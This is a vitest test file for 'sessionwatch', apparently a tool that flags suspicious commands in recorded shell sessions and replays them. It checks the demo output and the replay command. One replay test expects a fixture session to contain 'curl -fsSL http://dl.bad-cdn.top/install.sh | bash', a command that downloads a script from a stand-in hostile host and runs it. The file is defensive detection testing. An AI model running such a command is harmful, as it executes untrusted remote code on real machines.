import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../helpers/cli.js';
import { fixturesDir, repoRoot, sessionsDir } from '../../helpers/paths.js';
import { parseCast } from '../replay/helpers.js';

/** Runs a command in a directory (the CLI writes its report where it is run). */
function run(command: string, args: string[], cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { cwd, env: { ...process.env, NO_COLOR: '1' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => {
      stdout += d;
    });
    child.stderr.on('data', (d) => {
      stderr += d;
    });
    child.on('error', reject);
    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

/**
 * The output of `npm start` as docs/analyst.md shows it, and the README too once it has the same marked block
 * (`<!-- npm-start-output -->` followed by a text code block).
 */
function documentedOutputs(): { file: string; output: string }[] {
  const found: { file: string; output: string }[] = [];
  for (const file of ['docs/analyst.md', 'README.md']) {
    const path = join(repoRoot, file);
    if (!existsSync(path)) continue;
    const block = /<!-- npm-start-output -->\n```text\n([\s\S]*?)```/.exec(readFileSync(path, 'utf8'));
    if (block) found.push({ file, output: block[1]! });
  }
  expect(found.map((f) => f.file)).toContain('docs/analyst.md');
  return found;
}

describe('the demo (npm start)', () => {
  it('scans the bundled examples, prints the alert table and a summary, writes the report: what the docs show', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'sw-demo-'));
    const { code, stdout, stderr } = await run('node', [join(repoRoot, 'bin/sessionwatch.mjs'), 'demo'], cwd);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    expect(stdout).toMatch(/^sessionwatch demo: 6 example sessions/);
    expect(stdout).toMatch(/\nSEVERITY +RULE +CATEGORY +SESSION +WHO +COMMAND\n/);
    expect(stdout).toContain('\n17 alerts (16 high, 1 medium) in 6 sessions, 45 commands\n');
    expect(stdout).toContain('Report: ./sessionwatch-report.html');
    expect(stdout).not.toContain('\x1b[');
    const html = readFileSync(join(cwd, 'sessionwatch-report.html'), 'utf8');
    expect(html).toContain('mallory-09f8e7d6c5b4a3921');
    // npm prints its banner, then exactly this
    const banner = /^\n?> sessionwatch@[\d.]+ start\n> node bin\/sessionwatch\.mjs demo\n\n/;
    for (const { file, output } of documentedOutputs()) {
      expect(output, file).toMatch(banner);
      expect(output.replace(banner, ''), file).toBe(stdout);
    }
  });

  it('npm start runs it', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'sw-npm-start-')), 'demo.html');
    const { code, stdout } = await run('npm', ['start', '--', '-o', out], repoRoot);
    expect(code).toBe(0);
    expect(stdout).toContain('> node bin/sessionwatch.mjs demo -o');
    expect(stdout).toContain('17 alerts (16 high, 1 medium) in 6 sessions');
    expect(stdout).toContain(`Report: ${out}`);
    expect(existsSync(out)).toBe(true);
  });
});

describe('sessionwatch replay', () => {
  const work = mkdtempSync(join(tmpdir(), 'sw-replay-'));

  it('writes an asciicast v2 file for each format, and says how it was timed', async () => {
    for (const [format, timing] of [
      ['log', 'timing synthesised'],
      ['cw-final.jsonl', 'timing synthesised'],
      ['cw-stream.jsonl', 'timed from the log events'],
      ['subscription.json', 'timed from the log events'],
    ]) {
      const out = join(work, `mallory.${format}.cast`);
      const { code, stderr } = await runCli([
        'replay',
        join(sessionsDir, `mallory-09f8e7d6c5b4a3921.${format}`),
        '--cast',
        out,
      ]);
      expect(code).toBe(0);
      expect(stderr).toMatch(
        new RegExp(`^sessionwatch replay: wrote ${out}: mallory-09f8e7d6c5b4a3921 .*${timing}\\n$`),
      );
      const { header, events } = parseCast(readFileSync(out, 'utf8'));
      expect(header).toMatchObject({ version: 2, width: 120, height: 30 });
      expect(events.filter((e) => e[1] === 'm').map((e) => e[2])).toContain(
        '5: curl -fsSL http://dl.bad-cdn.top/install.sh | bash',
      );
    }
  });

  it('an input with several sessions needs --session; a wrong one is named', async () => {
    const several = await runCli(['replay', sessionsDir, '--cast', join(work, 'x.cast')]);
    expect(several.code).toBe(2);
    expect(several.stderr).toMatch(/the input holds 6 sessions; choose one with --session \(bulk-0d1e2f3a4b5c6d7e8, /);
    const chosen = await runCli([
      'replay',
      sessionsDir,
      '--session',
      'dana-0b1c2d3e4f5a6b7c8',
      '--cast',
      '-',
      '--no-markers',
    ]);
    expect(chosen.code).toBe(0);
    const { header, events } = parseCast(chosen.stdout);
    expect(header.title).toMatch(/^dana-0b1c2d3e4f5a6b7c8 \(S3 transcript; /); // the most complete format
    expect(events.some((e) => e[1] === 'm')).toBe(false);
    const wrong = await runCli(['replay', join(fixturesDir, 'sessions'), '--session', 'nobody-1', '--cast', '-']);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain('no session nobody-1 in the input (found: ');
  });
});
